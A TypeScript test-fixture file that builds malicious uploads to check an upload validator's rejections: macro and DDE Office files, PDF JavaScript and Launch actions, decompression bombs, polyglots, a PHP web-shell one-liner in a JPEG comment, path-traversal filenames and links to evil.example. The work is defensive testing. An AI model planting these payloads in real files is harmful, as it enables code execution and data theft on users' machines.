import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import type { UploadUse } from '#api/academic/uploads.ts'
import { fileTypes } from '../../platform/files/file-store.ts'
import { objectStream, getPdf, buildPdf, printedPdf } from '../../platform/testing/pdf-files.ts'
import { jpeg, png } from '../../users/testing/pictures.ts'
import { doc, docx, docxParts, relation, relationsPart, wordText, workbookStream, xls, xlsx, getZip } from './office-files.ts'

export interface HostileFile {
  what: string
  name: string
  type: string
  use?: UploadUse
  bytes: Buffer
  /** The service's answer to the file; `kept` if it is harmless once something was removed. */
  answer: string
  /** Content that must be missing from the stored file. */
  gone?: string
  /** Name under which the file is stored. */
  keptAs?: string
}

const pdfType = 'application/pdf'
const script = '<script>alert(1)</script>'
const join = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

/** An archive of one file. */
function zip(content: Buffer, comment = ''): Buffer {
  const packed = deflateRawSync(content)
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(1, 26)
  const central = Buffer.alloc(46)
  central.write('PK\x01\x02', 'latin1')
  central.writeUInt16LE(1, 28)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(comment.length, 20)
  return join(local, 'a', packed, central, 'a', end, comment)
}

/** Creates a PNG of few bytes whose header claims this size. */
function hugePng(width: number, height: number): Buffer {
  const bytes = png(1, 1)
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29)
  return bytes
}

const opening = (action: string) => buildPdf(`<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`)
const heic = join('\0\0\0\x18ftypheic', Buffer.alloc(16))
const asPdf = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'diploma.pdf', type: pdfType, bytes, answer })
const asPng = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.png', type: 'image/png', bytes, answer })
const asJpeg = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.jpg', type: 'image/jpeg', bytes, answer })
const byName = (what: string, name: string, answer: string, keptAs?: string): HostileFile => ({
  what,
  name,
  type: pdfType,
  bytes: getPdf(),
  answer,
  ...(keptAs && { keptAs }),
})

type OfficeKind = 'csv' | 'doc' | 'docx' | 'xls' | 'xlsx'
const ofRequest = (kind: OfficeKind, what: string, bytes: Buffer, answer: string): HostileFile => ({
  what,
  name: `ementa.${kind}`,
  type: fileTypes[kind],
  use: 'request',
  bytes,
  answer,
})
const [ole, program] = [Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.from('MZ\x90\0', 'latin1')]
const linked = (kind: string, target: string) =>
  docx({ parts: [relationsPart('word/_rels/document.xml.rels', relation(kind, target, 'External'))] })
const within = (name: string, content: Buffer) => docx({ parts: [{ name, content }] })
const wordType = (name: string, type: string) => `<Override PartName="/${name}" ContentType="application/${type}"/>`
const nested = (depth: number): Buffer => within('word/embeddings/a.docx', depth === 0 ? docx() : nested(depth - 1))

const officeFiles: HostileFile[] = [
  ofRequest('docx', 'a document with macros', within('word/vbaProject.bin', ole), 'FILE_ACTIVE'),
  ofRequest('docx', 'macros by another name', within('word/media/image1.png', ole), 'FILE_ACTIVE'),
  ofRequest(
    'docx',
    'macros that only their type tells',
    docx({ types: wordType('word/a.xml', 'vnd.ms-office.vbaProject'), parts: [{ name: 'word/a.xml', content: '<a/>' }] }),
    'FILE_ACTIVE',
  ),
  ofRequest(
    'docx',
    'a document for macros by the name of one without',
    docx({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'FILE_ACTIVE',
  ),
  ofRequest('docx', 'a document with a program', within('word/embeddings/oleObject1.bin', ole), 'FILE_ACTIVE'),
  ofRequest('docx', 'a program by the name of a picture', within('word/media/image1.png', program), 'FILE_ACTIVE'),
  ofRequest('docx', 'a document with a control', within('word/activeX/activeX1.xml', Buffer.from('<a/>')), 'FILE_ACTIVE'),
  ofRequest(
    'docx',
    'a document whose table has macros',
    within('word/embeddings/a.xlsx', xlsx({ parts: [{ name: 'xl/vbaProject.bin', content: ole }] })),
    'FILE_ACTIVE',
  ),
  ofRequest('docx', 'documents in documents', nested(3), 'FILE_ACTIVE'),
  ofRequest(
    'docx',
    'a document that gets its template from elsewhere',
    linked('attachedTemplate', 'https://evil.example/a.dotm'),
    'FILE_ACTIVE',
  ),
  ofRequest('docx', 'a document whose picture tells who opens it', linked('image', String.raw`\\evil.example\a.png`), 'FILE_ACTIVE'),
  ofRequest('docx', 'a link that starts a program', linked('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'FILE_ACTIVE'),
  ofRequest(
    'docx',
    'a page within a document',
    docx({ parts: [relationsPart('word/_rels/document.xml.rels', relation('aFChunk', 'a.txt'))] }),
    'FILE_ACTIVE',
  ),
  ofRequest(
    'docx',
    'a field that asks another program, in pieces',
    docx({ body: '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText>' }),
    'FILE_ACTIVE',
  ),
  ofRequest(
    'docx',
    'a document that opens with a password',
    doc(wordText(), { name: 'EncryptedPackage', content: Buffer.alloc(9) }),
    'FILE_LOCKED',
  ),
  ofRequest(
    'docx',
    'a document with an entry that has a password',
    getZip([...docxParts(), { name: 'a.xml', content: '<a/>', lie: { flags: 1 } }]),
    'FILE_LOCKED',
  ),
  ofRequest('docx', 'an archive by the name of a document of Word', zip(Buffer.from('x')), 'FILE_TYPE'),
  ofRequest('docx', 'a workbook by the name of a document', xlsx(), 'FILE_TYPE'),
  ofRequest('docx', 'a document with a program in front', Buffer.concat([program, docx()]), 'FILE_TYPE'),
  ofRequest(
    'docx',
    'a document that swells a thousandfold',
    docx({ parts: [{ name: 'word/a.xml', content: '<a/>', lie: { size: 160_000_000 } }] }),
    'FILE_ACTIVE',
  ),
  ofRequest(
    'docx',
    'a document that swells further than it says',
    docx({ parts: [{ name: 'word/media/a.png', content: Buffer.alloc(3_000_000), lie: { size: 10 } }] }),
    'FILE_TYPE',
  ),
  ofRequest(
    'docx',
    'entities that swell',
    docx({ body: Buffer.from('<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><w:document>&c;</w:document>') }),
    'FILE_TYPE',
  ),
  ofRequest(
    'xlsx',
    'a workbook with macros of 1992',
    xlsx({ parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] }),
    'FILE_ACTIVE',
  ),
  ofRequest(
    'xlsx',
    'a workbook that asks another program',
    xlsx({
      types: wordType('xl/a.xml', 'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'),
      parts: [{ name: 'xl/a.xml', content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }],
    }),
    'FILE_ACTIVE',
  ),
  ofRequest('doc', 'a document of 2003 with macros', doc(wordText(), { name: 'Macros' }, { name: 'VBA' }), 'FILE_ACTIVE'),
  ofRequest('doc', 'a document of 2003 with a file within', doc(wordText(), { name: 'ObjectPool', hasChildren: true }), 'FILE_ACTIVE'),
  ofRequest('doc', 'a field of 2003 that asks another program', doc(wordText('\x13 D\0D\0E\0AUTO cmd')), 'FILE_ACTIVE'),
  ofRequest('doc', 'a document of 2003 that opens with a password', doc(wordText('', 0x100)), 'FILE_LOCKED'),
  ofRequest('doc', 'a text of another kind by the name of a document', Buffer.from(String.raw`{\rtf1{\object\objdata 01}}`), 'FILE_TYPE'),
  ofRequest('doc', 'a workbook of 2003 by the name of a document', xls(), 'FILE_TYPE'),
  ofRequest('xls', 'a workbook of 2003 with macros', xls(workbookStream(), { name: '_VBA_PROJECT_CUR' }), 'FILE_ACTIVE'),
  ofRequest('xls', 'a workbook of 2003 with a hidden sheet of macros', xls(workbookStream([0, 1])), 'FILE_ACTIVE'),
  ofRequest(
    'xls',
    'a workbook of 2003 that opens with a password',
    xls(workbookStream([0], { type: 0x2f, body: Buffer.alloc(6) })),
    'FILE_LOCKED',
  ),
  ofRequest('xls', 'a page by the name of a workbook', Buffer.from('<html><table><tr><td>=cmd()</td></tr></table></html>'), 'FILE_TYPE'),
  ofRequest('csv', 'a program by the name of a table', join(program, Buffer.alloc(500)), 'FILE_TYPE'),
  ofRequest('csv', 'a page by the name of a table', Buffer.from(` ${script}`), 'FILE_TYPE'),
  ofRequest('csv', 'a table with a NUL', Buffer.from('a;b\0;c'), 'FILE_TYPE'),
  ofRequest('csv', 'a table with formulas', Buffer.from(`=cmd|'/c calc'!A0;@x`), 'kept'),
  { ...ofRequest('docx', 'a document of Word for an enrollment', docx(), 'FILE_TYPE'), use: 'document' },
]

export const hostileFiles: HostileFile[] = [
  asPdf('a page by the name of a document', Buffer.from(`<html>${script}</html>`), 'FILE_TYPE'),
  asPdf('a picture by the name of a document', png(7, 8), 'FILE_TYPE'),
  asPdf('a program by the name of a document', join('MZ\x90\0', Buffer.alloc(500)), 'FILE_TYPE'),
  asPdf('an archive by the name of a document', zip(Buffer.from('x')), 'FILE_TYPE'),
  asPdf('an archive that swells a thousandfold', zip(Buffer.alloc(50_000_000)), 'FILE_TYPE'),
  asPdf('half a document', Buffer.from('%PDF-1.7\n1 0 obj'), 'FILE_TYPE'),
  asPdf('a page before a document', join(`<html>${script}</html>\n`, getPdf()), 'FILE_TYPE'),
  asPdf('a page behind a document', join(getPdf(), `<html>${script}</html>`), 'FILE_TYPE'),
  asPdf('an archive behind a document', join(getPdf(), zip(Buffer.from('x'))), 'FILE_TYPE'),
  asPdf('a document that is an archive too', join('%PDF-1.7\n', zip(Buffer.from('x'), '\n%%EOF\n')), 'FILE_TYPE'),
  asPdf('a document with a script', opening('<</S/JavaScript/JS(app.alert(1))>>'), 'FILE_ACTIVE'),
  asPdf('a script by an escaped name', opening('<</S/J#61vaScript/JS(1)>>'), 'FILE_ACTIVE'),
  asPdf('a script in a stream of objects', getPdf(objectStream('<</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
  asPdf('a stream of objects that swells', getPdf(objectStream(' '.repeat(100_000_000))), 'FILE_ACTIVE'),
  asPdf('a document that starts a program', opening('<</S/Launch/F(cmd.exe)>>'), 'FILE_ACTIVE'),
  asPdf('a document that carries a file', getPdf('<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream'), 'FILE_ACTIVE'),
  asPdf('a document that submits a form', getPdf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
  asPdf('a document that opens another one', getPdf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
  asPdf('a document that opens one of a network', opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>'), 'FILE_ACTIVE'),
  asPdf('a document that opens an address by itself', opening('<</S/URI/URI(https://evil.example)>>'), 'FILE_ACTIVE'),
  asPdf('a document with a form of another language', buildPdf('<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
  asPdf('a document that opens with a password', await printedPdf('x', { userPassword: 'segredo' }), 'FILE_LOCKED'),
  asPdf('a document that its owner lets nobody print', await printedPdf('x', { ownerPassword: 'dono' }), 'kept'),
  {
    what: 'a drawing with a script',
    name: 'rg.svg',
    type: 'image/svg+xml',
    bytes: Buffer.from(`<svg>${script}</svg>`),
    answer: 'FILE_TYPE',
  },
  asPng(
    'a drawing with a script that says it is a PNG',
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    'FILE_TYPE',
  ),
  asPng('a page behind the first bytes of a PNG', join(png(7, 8).subarray(0, 8), script), 'FILE_TYPE'),
  asPng('a picture of 200 megapixels in a kilobyte', hugePng(20_000, 10_000), 'FILE_PIXELS'),
  asPng('a JPEG by the name of a PNG', jpeg(7, 8), 'FILE_TYPE'),
  asPng('half a PNG', png(700, 800).subarray(0, 200), 'FILE_TYPE'),
  asPng('a PNG of another size than its sum says', join(png(7, 8).subarray(0, 16), '\0\0\x03\0', png(7, 8).subarray(20)), 'FILE_TYPE'),
  { ...asPng('a page behind a PNG', join(png(7, 8), script), 'kept'), gone: 'script' },
  { ...asPng('an archive behind a PNG', join(png(7, 8), zip(Buffer.from('x'))), 'kept'), gone: 'PK\x05\x06' },
  { ...asPng('a page in what a PNG notes', png(7, 8, [['tEXt', Buffer.from(script)]]), 'kept'), gone: 'script' },
  {
    ...asPng('a colour profile that swells', png(7, 8, [['iCCP', join('icc\0\0', deflateSync(Buffer.alloc(40_000_000)))]]), 'kept'),
    gone: 'iCCP',
  },
  asJpeg('a page by the name of a JPEG', Buffer.from(`<html>${script}</html>`), 'FILE_TYPE'),
  asJpeg('a GIF by the name of a JPEG', join('GIF89a/*', Buffer.alloc(64), `*/=1;alert(1)`), 'FILE_TYPE'),
  asJpeg('a JPEG of two sizes', join(jpeg(7, 8).subarray(0, -2), jpeg(7000, 8000).subarray(2)), 'FILE_TYPE'),
  asJpeg('a JPEG of four thousand megapixels', jpeg(65_000, 65_000), 'FILE_PIXELS'),
  asJpeg('a picture of an iPhone by the name of a JPEG', heic, 'FILE_HEIC'),
  { ...asJpeg('a program in a JPEG’s comment', jpeg(7, 8, [[0xfe, Buffer.from('<?php system($_GET[1]) ?>')]]), 'kept'), gone: 'php' },
  { what: 'a picture of an iPhone', name: 'IMG_1.HEIC', type: 'image/heic', bytes: heic, answer: 'FILE_HEIC' },
  byName('two extensions', 'diploma.pdf.exe', 'FILE_TYPE'),
  byName('an extension behind a NUL', 'diploma.exe\0.pdf.js', 'FILE_TYPE'),
  byName('a name that reads backwards', 'diploma\u202efdp.exe', 'FILE_TYPE'),
  byName('no name but an extension', '.pdf', 'FILE_TYPE'),
  byName('a name that leaves its folder', '../../../etc/passwd.pdf', 'kept', 'passwd.pdf'),
  byName('a name from another system', String.raw`C:\Windows\system.pdf`, 'kept', 'system.pdf'),
  byName('a name with lines of their own', 'a\r\nset-cookie: x=1.pdf', 'kept', 'aset-cookie: x=1.pdf'),
  byName('a name of 255 bytes', `${'a'.repeat(251)}.pdf`, 'kept', `${'a'.repeat(196)}.pdf`),
  ...officeFiles,
  byName('a name of markup', '<img src=x onerror=alert(1)>.pdf', 'kept', '<img src=x onerror=alert(1)>.pdf'),
]
